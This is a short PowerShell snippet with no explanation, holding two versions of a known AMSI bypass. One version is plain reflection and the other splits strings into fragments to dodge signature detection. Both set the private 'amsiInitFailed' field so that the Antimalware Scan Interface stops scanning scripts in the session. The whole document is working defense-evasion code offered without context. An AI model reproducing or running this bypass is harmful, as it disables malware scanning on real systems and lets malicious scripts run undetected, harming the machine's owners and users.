[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
$a = 'System.Management.Automation.A' + 'msiUt' + 'ils'
$f = [Ref].Assembly.GetType($a).GetField(('am' + 'siInit' + 'Failed'), 'NonPublic,Static')
$f.SetValue($null, $true)
